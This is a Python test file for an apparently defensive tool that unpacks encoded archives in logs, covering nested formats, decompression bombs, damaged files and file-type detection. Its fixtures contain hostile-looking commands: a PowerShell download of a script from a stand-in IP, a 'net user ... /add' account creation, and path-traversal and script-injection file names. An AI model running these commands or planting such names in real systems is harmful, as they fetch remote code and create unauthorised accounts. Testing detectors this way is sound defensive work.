"""Archives inside of encoded text: every method, nested, damaged, hostile."""

from __future__ import annotations

import base64
import gzip
import hashlib
import io
import lzma
import struct
import tarfile
import time
import tracemalloc
import zipfile
import zlib
from pathlib import Path

import pytest

from flowsleuth.extract.decoding import DecodeLimits, unpack_bytes, unpack_text
from flowsleuth.extract.decoding.file_types import file_type

BODY = b"Invoke-WebRequest http://198.51.100.7/a.ps1 -OutFile a.ps1\r\n" * 3
METHODS = {"stored": 0, "deflate": 8, "bzip2": 12, "lzma": 14}


def zip_of(files: dict[str, bytes], method: int = 8) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as archive:
        for name, body in files.items():
            archive.writestr(name, body)
    return out.getvalue()


def tar_of(files: dict[str, bytes], form: int = tarfile.PAX_FORMAT) -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w", format=form) as archive:
        for name, body in files.items():
            info = tarfile.TarInfo(name)
            info.size = len(body)
            archive.addfile(info, io.BytesIO(body))
    return out.getvalue()


def seven_zip_of(files: dict[str, bytes]) -> bytes:
    try:
        import libarchive
    except (ImportError, OSError, TypeError, AttributeError):
        pytest.skip("libarchive, or what binds it, is not installed")
    out = bytearray()

    def write(block: bytes) -> int:
        out.extend(block)
        return len(block)

    with libarchive.custom_writer(write, "7zip") as archive:
        for name, body in files.items():
            archive.add_file_from_memory(name, len(body), body)
    return bytes(out)


def encoded(data: bytes) -> str:
    return f"echo {base64.b64encode(data).decode()} > a.b64"


def nodes_of(data: bytes, **limits: int) -> list:
    return list(unpack_text(encoded(data), DecodeLimits(**limits)).walk())


@pytest.mark.parametrize("method", METHODS)
def test_zip_by_each_method(method):
    top, first, second = nodes_of(zip_of({"one.ps1": BODY, "folder/two.txt": b"whoami /all"}, METHODS[method]))
    assert (top.kind, top.status, top.index, top.depth) == ("zip", "decoded", "1", 1)
    assert (first.name, first.kind, first.text, first.index) == ("one.ps1", "string", BODY.decode(), "1.1")
    assert (second.name, second.text, second.index) == ("folder/two.txt", "whoami /all", "1.2")
    assert first.path == ("base64", "zip", "utf-8")


@pytest.mark.parametrize("form", [tarfile.USTAR_FORMAT, tarfile.GNU_FORMAT, tarfile.PAX_FORMAT])
def test_tar_in_each_form(form):
    name = "a long folder name/" * 8 + "run.sh"
    top, only = nodes_of(tar_of({name: BODY}, form))
    assert (top.kind, only.name, only.text) == ("tar", name, BODY.decode())


def test_7z():
    top, first, second = nodes_of(seven_zip_of({"one.ps1": BODY, "two.txt": b"whoami /all"}))
    assert (top.kind, top.status) == ("7z", "decoded")
    assert (first.name, first.text) == ("one.ps1", BODY.decode())
    assert (second.name, second.text) == ("two.txt", "whoami /all")


def test_7z_without_the_library_is_named(monkeypatch):
    data = seven_zip_of({"one.ps1": BODY})
    monkeypatch.setitem(__import__("sys").modules, "libarchive", None)
    (top,) = nodes_of(data)
    assert (top.kind, top.status) == ("7z", "unsupported")
    assert 'pip install "flowsleuth[archives]"' in top.note


def test_archives_inside_of_archives_and_text_in_them():
    inner = base64.b64encode(b"net user eve Passw0rd /add").decode()
    data = gzip.compress(tar_of({"a.zip": zip_of({"b.bz2": __import__("bz2").compress(f"cmd /c {inner}".encode())})}))
    found = unpack_text(encoded(data))
    *_, last = found.walk()
    assert last.text == "net user eve Passw0rd /add"
    assert last.path == ("base64", "gz", "tar", "zip", "bz2", "utf-8", "base64", "utf-8")
    assert (last.index, last.depth, last.offset) == ("1.1.1.1.1.1", 5, 5)
    assert "name='b.bz2'" in found.full_text
    assert "net user eve Passw0rd /add" in found.full_text


def test_twenty_gzips_in_one_another_and_one_more():
    data = b"innermost text"
    for _ in range(20):
        data = gzip.compress(data)
    *_, last = nodes_of(data)
    assert last.text == "innermost text"
    *_, last = nodes_of(gzip.compress(data))
    assert (last.status, last.note) == ("limit", "archives more than 20 levels deep")


def test_the_name_that_gzip_keeps():
    out = io.BytesIO()
    with gzip.GzipFile("dropper.ps1", "wb", fileobj=out) as file:
        file.write(BODY)
    assert nodes_of(out.getvalue())[1].name == "dropper.ps1"


def test_a_bomb_is_answered_in_under_a_second_with_a_limit_row():
    bomb = gzip.compress(bytes(30_000_000))
    text = encoded(bomb)
    tracemalloc.start()
    begin = time.process_time()
    nodes = list(unpack_text(text).walk())
    took, peak = time.process_time() - begin, tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert took < 1
    assert peak < 40_000_000
    assert nodes[-1].status == "limit"
    assert nodes[-1].note.startswith(f"unpacks to more than 200 times its {len(bomb):,} bytes")


@pytest.mark.parametrize("kind", ["zlib", "bz2", "xz", "lzma", "zip", "zip bz2", "zip lzma", "tar", "7z"])
def test_bombs_of_every_kind(kind):
    zeros = bytes(30_000_000)
    made = {
        "zlib": lambda: zlib.compress(b"MZ" + zeros),
        "bz2": lambda: __import__("bz2").compress(zeros),
        "xz": lambda: lzma.compress(zeros, preset=1),
        "lzma": lambda: lzma.compress(zeros, lzma.FORMAT_ALONE, preset=1),
        "zip": lambda: zip_of({"a": zeros}),
        "zip bz2": lambda: zip_of({"a": zeros}, 12),
        "zip lzma": lambda: zip_of({"a": zeros}, 14),
        "tar": lambda: gzip.compress(tar_of({"a": zeros})),
        "7z": lambda: seven_zip_of({"a": zeros}),
    }[kind]()
    begin = time.process_time()
    nodes = list(unpack_bytes(made, "bomb").walk())
    assert time.process_time() - begin < 2
    assert any(one.status == "limit" for one in nodes), nodes
    assert sum(len(one.data) for one in nodes) < 40_000_000


def test_a_bomb_of_text_gives_the_text_that_came_first():
    nodes = nodes_of(gzip.compress(b"whoami /all " + b"A" * 30_000_000))
    assert nodes[-1].status == "limit"
    assert nodes[-1].text.startswith("whoami /all AAAA")
    assert not nodes[-1].is_file  # a hash of a part is nobody's hash


def test_the_limit_on_the_size_of_all():
    files = {f"{n}.bin": bytes([n]) * 100 + bytes(range(256)) * 400 for n in range(50)}
    nodes = nodes_of(zip_of(files, 0), max_bytes=6_000_000)
    assert nodes[-1].status == "limit"
    assert nodes[-1].note == "becomes more than 6,000,000 bytes"


def test_the_limit_on_the_number_of_members():
    nodes = nodes_of(zip_of({f"{n}.txt": b"some words" for n in range(200)}), max_items=100)
    assert len(nodes) == 100
    assert (nodes[-1].status, nodes[-1].note) == ("limit", "more than 100 things in it")


def test_many_bombs_in_one_archive_stay_within_the_limit_of_all():
    bomb = zlib.compress(b"%PDF-" + bytes(40_000_000), 9)
    nodes = nodes_of(zip_of({f"{n}.z": bomb for n in range(30)}, 0), max_bytes=20_000_000)
    assert sum(len(one.data) for one in nodes) < 25_000_000
    assert nodes[-1].status == "limit"


def test_overlapping_members_stay_within_the_limits():
    """A directory that names one member a thousand times (as zip bombs without nesting do)."""
    whole = zip_of({"a": bytes(2_000_000)})
    at = whole.index(b"PK\x01\x02")
    directory = whole[at : whole.index(b"PK\x05\x06")]
    many = (
        whole[:at]
        + directory * 1000
        + struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, 1000, 1000, len(directory) * 1000, at, 0)
    )
    begin = time.process_time()
    nodes = nodes_of(many)
    assert time.process_time() - begin < 3
    assert nodes[-1].status == "limit"


@pytest.mark.parametrize("kind", ["gz", "bz2", "xz", "zip", "tar", "7z"])
def test_damaged_archives_say_so_and_give_what_came_out(kind):
    body = hashlib.sha512(b"seed").hexdigest().encode() + BODY + hashlib.sha512(b"more").digest() * 90
    data = {
        "gz": lambda: gzip.compress(body),
        "bz2": lambda: __import__("bz2").compress(body),
        "xz": lambda: lzma.compress(body),
        "zip": lambda: zip_of({"a.txt": body}),
        "tar": lambda: tar_of({"a.txt": body * 3}),
        "7z": lambda: seven_zip_of({"a.txt": body}),
    }[kind]()
    for size in range(40, len(data), max(1, len(data) // 60)):
        unpack_text(encoded(data[:size]))
    cut = list(unpack_bytes(data[: len(data) * 2 // 3], "a").walk())
    assert cut[0].kind == kind
    assert any(one.status == "damaged" for one in cut), cut
    if kind in ("gz", "zip", "tar"):
        assert cut[-1].data[:128] == body[:128]


def test_a_damaged_lzma_member_gives_what_came_out_and_uses_the_budget_up():
    body = b"".join(hashlib.sha512(bytes([at % 251, at // 251])).digest() for at in range(5_000))
    data = bytearray(zip_of({"a.bin": body}, 14))
    data[len(data) * 3 // 4 : len(data) * 3 // 4 + 4] = b"\xff" * 4
    found = unpack_bytes(bytes(data), "a.zip")
    (only,) = found.found[0].children
    assert only.status == "damaged"
    assert len(only.data) > len(body) // 2
    assert only.data == body[: len(only.data)]
    assert found.spent >= len(only.data)


def test_a_wrong_checksum_is_told():
    data = bytearray(zip_of({"a.txt": BODY}, 0))
    data[data.index(b"Invoke")] = ord("J")
    _top, only = nodes_of(bytes(data))
    assert (only.status, only.note) == ("damaged", "its checksum is wrong")
    assert only.text.startswith("Jnvoke")


def test_a_wrong_checksum_in_a_7z_is_told_in_its_row_and_nowhere_else(capfd):
    data = bytearray(seven_zip_of({"a.txt": b"Invoke-WebRequest of something"}))
    for at in range(34, 60):
        spoilt = bytes(data[:at]) + bytes([data[at] ^ 1]) + bytes(data[at + 1 :])
        assert {one.status for one in unpack_bytes(spoilt, "a.7z").walk()} & {"damaged"}, at
    assert capfd.readouterr().err == ""


@pytest.mark.parametrize("size", [0, 5, 300, 70_000, 3_000_000])
def test_zstd(size):
    pa = pytest.importorskip("pyarrow")
    body = (b"whoami /all " * (size // 12 + 1))[:size]
    packed = pa.compress(body, codec="zstd", asbytes=True)
    top, only = unpack_bytes(packed, "a.zst", DecodeLimits(max_ratio=1_000_000)).walk()
    assert (top.kind, only.data, only.status) == ("zstd", body, "decoded")
    if size > 5:
        assert (
            list(unpack_bytes(packed[:-2], "a.zst", DecodeLimits(max_ratio=1_000_000)).walk())[-1].status == "damaged"
        )
        assert (
            list(unpack_bytes(packed + packed, "a.zst", DecodeLimits(max_ratio=1_000_000)).walk())[1].data == body * 2
        )


def test_damaged_zstd_holds_on_to_no_memory():
    pa = pytest.importorskip("pyarrow")
    data = pa.compress(b"whoami /all " * 500, codec="zstd", asbytes=True)[:-3]

    def resident() -> int:
        return int(Path("/proc/self/statm").read_text().split()[1]) * 4096

    for _ in range(200):
        list(unpack_bytes(data, "a.zst").walk())
    before = resident()
    for _ in range(2_000):
        list(unpack_bytes(data, "a.zst").walk())
    assert resident() - before < 20_000_000


def test_a_zip_without_its_directory():
    whole = zip_of({"a.txt": BODY, "b.txt": b"second file"})
    _, first, second = nodes_of(whole[: whole.index(b"PK\x01\x02")])
    assert (first.text, second.text) == (BODY.decode(), "second file")
    assert {first.status, second.status} == {"damaged"}


@pytest.mark.parametrize(
    ("flags", "method", "status"), [(1, 8, "password"), (0, 9, "unsupported"), (0, 99, "password")]
)
def test_what_cannot_be_unpacked_is_named(flags, method, status):
    data = bytearray(zip_of({"secret.doc": BODY}))
    for mark, at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        struct.pack_into("<2H", data, data.index(mark) + at, flags, method)
    _top, only = nodes_of(bytes(data))
    assert (only.name, only.status, only.data) == ("secret.doc", status, b"")
    assert ("deflate64" in only.note) == (method == 9)


def test_rar_is_named():
    (top,) = nodes_of(b"Rar!\x1a\x07\x00" + bytes(range(256)) * 2)
    assert (top.kind, top.status) == ("rar", "unsupported")


def test_names_in_archives_do_no_harm():
    found = unpack_text(encoded(zip_of({"../../etc/passwd": b"root:x:0:0", "a' onload='x\x1b[31m.txt": b"some words"})))
    assert [one.name for one in found.walk()][1:] == ["../../etc/passwd", "a' onload='x\x1b[31m.txt"]
    assert "name='a&apos; onload=&apos;x\\x1b[31m.txt'" in found.full_text


def test_an_empty_file_in_an_archive():
    _, only = nodes_of(zip_of({"empty.txt": b""}))
    assert (only.name, only.kind, only.status) == ("empty.txt", "empty", "decoded")


def pe(characteristics: int, subsystem: int) -> bytes:
    head = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00" + bytes(50) + struct.pack("<I", 128) + bytes(64)
    optional = struct.pack("<H", 0x20B) + bytes(66) + struct.pack("<H", subsystem) + bytes(200)
    return head + b"PE\x00\x00" + struct.pack("<2H3L2H", 0x8664, 1, 0, 0, 0, len(optional), characteristics) + optional


MAGIC = {
    "exe": pe(0x22, 3), "dll": pe(0x2022, 3), "sys": pe(0x22, 1), "elf": b"\x7fELF\x02\x01\x01" + bytes(60),
    "pdf": b"%PDF-1.4\n" + bytes(range(200)), "png": b"\x89PNG\r\n\x1a\n" + bytes(40), "7z": b"7z\xbc\xaf\x27\x1c\0\4",
    "ole": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(60), "gz": gzip.compress(b"a"), "zip": zip_of({"a": b""}),
    "xz": lzma.compress(b"a"), "tar": tar_of({"a": b"b"}), "jpeg": b"\xff\xd8\xff\xe0\0\x10JFIF",
}  # fmt: skip


@pytest.mark.parametrize("kind", MAGIC)
def test_kinds_of_files_by_their_first_bytes(kind):
    assert file_type(MAGIC[kind]) == kind


def test_hashes_of_a_program():
    data = pe(0x22, 3) + bytes(range(256))
    (only,) = nodes_of(data)
    assert (only.kind, only.encoding, only.status) == ("exe", "binary", "binary")
    assert only.hashes() == {
        "md5": hashlib.md5(data).hexdigest(),
        "sha1": hashlib.sha1(data).hexdigest(),
        "sha256": hashlib.sha256(data).hexdigest(),
    }


def test_a_program_that_the_log_cut_off():
    (only,) = nodes_of(pe(0x22, 3)[:40])
    assert only.kind == "exe"


def test_shellcode_in_a_call_has_no_kind():
    data = hashlib.sha512(b"code").digest()
    (only,) = unpack_text(f"[Convert]::FromBase64String('{base64.b64encode(data).decode()}')").walk()
    assert (only.kind, only.status, only.data) == ("bin", "binary", data)
